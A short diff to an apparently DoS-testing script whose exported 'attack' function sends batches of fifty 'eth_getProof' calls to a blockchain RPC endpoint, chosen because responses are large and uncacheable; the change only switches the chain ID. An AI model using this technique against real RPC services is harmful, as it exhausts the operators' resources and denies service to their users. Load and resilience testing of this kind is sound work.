@@ -5,7 +5,7 @@ const batchSize = 50;
 
 /** H4: batches of fifty, each answered by the node just below 5 MB: `eth_getProof`, which no cache has. */
 export async function attack({ url, projectId, origin, seconds }) {
-  const path = `/v1/rpc?projectId=${projectId}&chainId=eip155:1`;
+  const path = `/v1/rpc?projectId=${projectId}&chainId=eip155:10`;
   const headers = { origin, 'content-type': 'application/json' };
   const next = (index) => {
     const batch = Array.from({ length: batchSize }, (_, id) => {
